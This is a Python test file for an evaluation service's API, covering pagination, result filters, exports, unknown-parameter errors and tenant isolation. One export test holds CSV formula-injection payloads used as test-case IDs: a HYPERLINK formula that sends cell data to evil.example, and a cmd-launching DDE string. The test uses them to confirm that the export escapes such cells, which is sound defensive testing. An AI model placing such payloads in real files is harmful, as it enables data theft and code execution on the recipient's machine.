"""Reading an evaluation back: test cases with media URLs, result filters and order, exports,
unknown query parameters."""

import base64
import csv
import io
import json
from typing import Any

import httpx
from PIL import Image

from tests.fixtures.api import Api


def png(color: str, size: tuple[int, int] = (10, 8)) -> str:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format="PNG")
    return "data:image/png;base64," + base64.b64encode(buffer.getvalue()).decode()


def image(url: str) -> dict:
    return {"type": "image_url", "image_url": {"url": url}}


def body() -> dict[str, Any]:
    """Five cases, two reference metrics: `exact` passes 2 of 5; `rouge` scores in between."""
    answers = [("a b c", "a b c"), ("a b", "a b c"), ("x", "a b c"), ("b c", "b c"), ("z", "q")]
    return {
        "name": "reading",
        "test_cases": [
            {
                "id": f"case-{i}",
                "input": ["What is shown?", image(png("green"))],
                "actual_output": actual,
                "expected_output": expected,
                "metadata": {"n": i},
            }
            for i, (actual, expected) in enumerate(answers)
        ],
        "metrics": [
            {"type": "exact_match", "name": "exact"},
            {"type": "rouge", "name": "rouge", "threshold": 0.5},
        ],
    }


def submitted(api: Api) -> tuple[httpx.Client, dict[str, Any]]:
    client = api.tenant_client()
    response = client.post("/v1/evaluations", json=body())
    assert response.status_code == 202, response.text
    return client, api.wait(client, response.json()["id"])


def results(client: httpx.Client, evaluation_id: str, **params: Any) -> list[dict]:
    response = client.get(f"/v1/evaluations/{evaluation_id}/results", params=params)
    assert response.status_code == 200, response.text
    return response.json()["data"]


def bad_request(response: httpx.Response) -> dict[str, Any]:
    assert response.status_code == 400, response.text
    assert response.headers["content-type"] == "application/problem+json"
    return response.json()


class TestTestCases:
    def test_pages_with_fetchable_images(self, api: Api) -> None:
        client, evaluation = submitted(api)
        url = f"/v1/evaluations/{evaluation['id']}/test_cases"
        first = client.get(url, params={"limit": 2}).json()
        assert [case["id"] for case in first["data"]] == ["case-0", "case-1"]
        assert first["has_more"] is True and first["last_id"] == "case-1"
        rest = client.get(url, params={"after": "case-1"}).json()
        assert [case["id"] for case in rest["data"]] == ["case-2", "case-3", "case-4"]
        assert rest["has_more"] is False
        case = first["data"][0]
        assert case["actual_output"] == "a b c" and case["metadata"] == {"n": 0}
        text, picture = case["input"]
        assert text == "What is shown?"
        media_url = picture["image_url"]["url"]
        assert media_url.startswith(api.base_url + "/v1/media/")
        assert picture["blob"]["sent"]["width"] == 10
        fetched = client.get(media_url)
        assert fetched.status_code == 200
        assert fetched.headers["content-type"] == "image/png"
        assert Image.open(io.BytesIO(fetched.content)).size == (10, 8)

    def test_unknown_cursor_is_400(self, api: Api) -> None:
        client, evaluation = submitted(api)
        url = f"/v1/evaluations/{evaluation['id']}/test_cases"
        assert bad_request(client.get(url, params={"after": "nope"}))["type"].endswith("bad-cursor")


class TestResultFilters:
    def test_metric_and_status(self, api: Api) -> None:
        client, evaluation = submitted(api)
        eid = evaluation["id"]
        exact = results(client, eid, metric="exact")
        assert [(r["test_case_id"], r["passed"]) for r in exact] == [
            ("case-0", True),
            ("case-1", False),
            ("case-2", False),
            ("case-3", True),
            ("case-4", False),
        ]
        passed = results(client, eid, metric="exact", status="passed")
        assert [r["test_case_id"] for r in passed] == ["case-0", "case-3"]
        failed = results(client, eid, status="failed")
        assert all(r["passed"] is False for r in failed)
        summary = {m["metric"]: m for m in evaluation["per_metric"]}
        assert len(failed) == summary["exact"]["failed"] + summary["rouge"]["failed"]
        assert results(client, eid, status="errored") == []

    def test_order_by_score_pages_through_every_result_once(self, api: Api) -> None:
        client, evaluation = submitted(api)
        eid = evaluation["id"]
        everything = results(client, eid, metric="rouge")
        for order, reverse in (("score_asc", False), ("score_desc", True)):
            seen: list[dict] = []
            after = None
            while True:
                params = {"metric": "rouge", "order": order, "limit": 2}
                page = client.get(
                    f"/v1/evaluations/{eid}/results",
                    params={**params, "after": after or ""} if after else params,
                ).json()
                seen.extend(page["data"])
                if not page["has_more"]:
                    break
                after = page["last_id"]
            scores = [r["score"] for r in seen]
            assert scores == sorted(scores, reverse=reverse)
            assert sorted(r["id"] for r in seen) == sorted(r["id"] for r in everything)

    def test_bad_filters_are_problems(self, api: Api) -> None:
        client, evaluation = submitted(api)
        url = f"/v1/evaluations/{evaluation['id']}/results"
        assert bad_request(client.get(url, params={"metric": "nope"}))["type"].endswith(
            "unknown-metric"
        )
        assert client.get(url, params={"status": "sideways"}).status_code == 422
        assert client.get(url, params={"order": "name"}).status_code == 422


class TestUnknownQueryParameters:
    def test_are_400_naming_them(self, api: Api) -> None:
        client, evaluation = submitted(api)
        problem = bad_request(
            client.get(
                f"/v1/evaluations/{evaluation['id']}/results",
                params={"metirc": "exact", "limit": 2},
            )
        )
        assert problem["type"].endswith("unknown-query-parameter")
        assert "'metirc'" in problem["detail"]
        assert [e["loc"] for e in problem["errors"]] == ["query.metirc"]
        for path in ("/v1/evaluations", "/v1/runs", "/v1/datasets", "/v1/webhook_endpoints"):
            assert bad_request(client.get(path, params={"page": 2}))["errors"][0]["loc"] == (
                "query.page"
            )
        # Declared parameters still work.
        assert client.get("/v1/evaluations", params={"limit": 1}).status_code == 200


class TestExport:
    def test_jsonl_and_csv(self, api: Api) -> None:
        client, evaluation = submitted(api)
        eid = evaluation["id"]
        listed = results(client, eid)
        response = client.get(f"/v1/evaluations/{eid}/results/export")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("application/x-ndjson")
        lines = [json.loads(line) for line in response.text.splitlines()]
        assert lines == listed
        response = client.get(
            f"/v1/evaluations/{eid}/results/export",
            params={"format": "csv", "metric": "exact", "status": "passed"},
        )
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [(r["test_case_id"], r["passed"], r["score"]) for r in rows] == [
            ("case-0", "True", "1.0"),
            ("case-3", "True", "1.0"),
        ]
        assert json.loads(rows[0]["logs"])["expected"] == "a b c"

    def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(self, api: Api) -> None:
        client = api.tenant_client()
        ids = [
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tTAB",
            "\rCR",
            "plain = fine",
        ]
        response = client.post(
            "/v1/evaluations",
            json={
                "test_cases": [
                    {"id": case_id, "input": "q", "actual_output": "a", "expected_output": "a"}
                    for case_id in ids
                ],
                "metrics": [{"type": "exact_match", "name": "=1+1"}],
            },
        )
        assert response.status_code == 202, response.text
        eid = api.wait(client, response.json()["id"])["id"]
        export = f"/v1/evaluations/{eid}/results/export"
        rows = list(csv.DictReader(io.StringIO(client.get(export, params={"format": "csv"}).text)))
        assert [row["test_case_id"] for row in rows] == [*("'" + i for i in ids[:-1]), ids[-1]]
        assert {row["metric"] for row in rows} == {"'=1+1"}
        assert {row["score"] for row in rows} == {"1.0"}  # numbers stay numbers
        # JSON Lines are data for programs: every value as submitted.
        lines = [json.loads(line) for line in client.get(export).text.splitlines()]
        assert [line["test_case_id"] for line in lines] == ids
        assert {line["metric"] for line in lines} == {"=1+1"}

    def test_another_tenant_gets_404(self, api: Api) -> None:
        _, evaluation = submitted(api)
        stranger = api.tenant_client()
        for suffix in ("/results/export", "/test_cases", "/results"):
            response = stranger.get(f"/v1/evaluations/{evaluation['id']}{suffix}")
            assert response.status_code == 404, suffix


class TestListFilters:
    def test_status_and_name(self, api: Api) -> None:
        client, evaluation = submitted(api)
        renamed = {**body(), "name": "Nightly 100%_run"}
        response = client.post("/v1/evaluations", json=renamed)
        other = api.wait(client, response.json()["id"])

        def names(**params: Any) -> list[str]:
            response = client.get("/v1/evaluations", params=params)
            assert response.status_code == 200, response.text
            return [e["id"] for e in response.json()["data"]]

        assert names() == [other["id"], evaluation["id"]]
        assert names(name="nightly") == [other["id"]]
        assert names(name="100%_") == [other["id"]]
        # % and _ are literal characters, not patterns.
        assert names(name="_") == [other["id"]]
        assert names(name="%") == [other["id"]]
        assert names(status="completed", name="READ") == [evaluation["id"]]
        assert names(status="queued") == []
        assert client.get("/v1/evaluations", params={"status": "done"}).status_code == 422
